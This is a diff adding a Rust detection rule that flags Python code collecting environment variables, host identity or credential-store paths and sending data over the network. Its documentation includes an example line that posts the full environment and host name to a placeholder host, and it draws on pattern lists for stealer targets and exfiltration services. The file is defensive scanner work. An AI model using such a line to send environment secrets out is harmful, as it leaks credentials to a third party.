@@ -1,0 +1,81 @@
+//! PY008 exfiltration-flow.
+
+use super::super::patterns::{DEV_CREDENTIALS, EXFIL_SERVICES, STEALER_TARGETS};
+use crate::context::{Cx, by_context};
+use assay_core::{Capability, Finding, Severity};
+use assay_lang::{EventKind, Taint};
+
+declare_rule! {
+    /// ## What it does
+    /// Flags one file whose code collects something sensitive — the whole environment,
+    /// credential stores, system identity (host/user name), files found by walking the
+    /// disk — and also sends data over the network, or passes collected data straight
+    /// into a network call.
+    ///
+    /// ## Why it matters
+    /// Collection plus a sink is the complete theft: each half alone is common, both in
+    /// one place is what stealers and the 2025–2026 CI-token worms look like.
+    ///
+    /// ## Example
+    /// ```python
+    /// import os, socket, requests
+    /// requests.post("https://example.invalid/c", json={"host": socket.gethostname(), "env": dict(os.environ)})
+    /// ```
+    ///
+    /// ## False positives
+    /// Telemetry and crash reporters send host names; at runtime such flows are medium
+    /// severity, and only automatic execution (install, startup, import) makes them
+    /// critical.
+    ///
+    /// ## References
+    /// - CWE-200: Exposure of Sensitive Information
+    /// - MITRE ATT&CK T1041 (Exfiltration Over C2 Channel), T1567 (Exfiltration Over Web Service)
+    pub static META = {
+        code: "PY008",
+        name: "exfiltration-flow",
+        family: Py,
+        summary: "Collects secrets or system identity and sends data over the network",
+        severity: High,
+        confidence: Medium,
+        targets: [Python, Pth],
+        cwe: Some("CWE-200"),
+        attack: Some("T1041"),
+    }
+}
+
+/// Check sources and sinks per file.
+pub fn check(cx: &Cx, out: &mut Vec<Finding>) {
+    for f in &cx.python {
+        if f.is_test_or_doc() {
+            continue;
+        }
+        let a = &f.analysis;
+        let sinks: Vec<_> = a.events.iter().filter(|e| matches!(e.kind, EventKind::Network | EventKind::DnsLookup)).collect();
+        if sinks.is_empty() {
+            continue;
+        }
+        let mut sources: Vec<&str> = Vec::new();
+        if a.events.iter().any(|e| e.kind == EventKind::EnvHarvest) {
+            sources.push("environment");
+        }
+        if a.events.iter().any(|e| e.kind == EventKind::SystemInfo) {
+            sources.push("system identity");
+        }
+        if a.strings.iter().any(|s| s.value.len() < 4096 && (STEALER_TARGETS.0.is_match(&s.value) || DEV_CREDENTIALS.0.is_match(&s.value))) {
+            sources.push("credential stores");
+        }
+        let webhook = a.strings.iter().any(|s| EXFIL_SERVICES.0.is_match(&s.value));
+        // A sink fed directly by env/process output is a flow even without other sources.
+        let direct = sinks.iter().find(|e| e.taint.has(Taint::ENV) || e.taint.has(Taint::PROCESS_OUTPUT));
+        if sources.is_empty() && direct.is_none() {
+            continue;
+        }
+        let sink = direct.copied().or_else(|| sinks.iter().find(|e| e.context.is_automatic()).copied()).unwrap_or(sinks[0]);
+        let strong = direct.is_some() || webhook || sources.len() >= 2;
+        let sev = by_context(sink.context, Severity::Critical, if strong { Severity::Critical } else { Severity::High }, if strong { Severity::High } else { Severity::Medium });
+        let what = if sources.is_empty() { "process/env data".to_owned() } else { sources.join(", ") };
+        let mut x = cx.event_finding(&META, f, sink, sev, format!("collects {what}; sends via {}: {}", sink.api, sink.snippet));
+        x.capabilities = vec![Capability::Network, Capability::CredentialAccess];
+        out.push(x);
+    }
+}
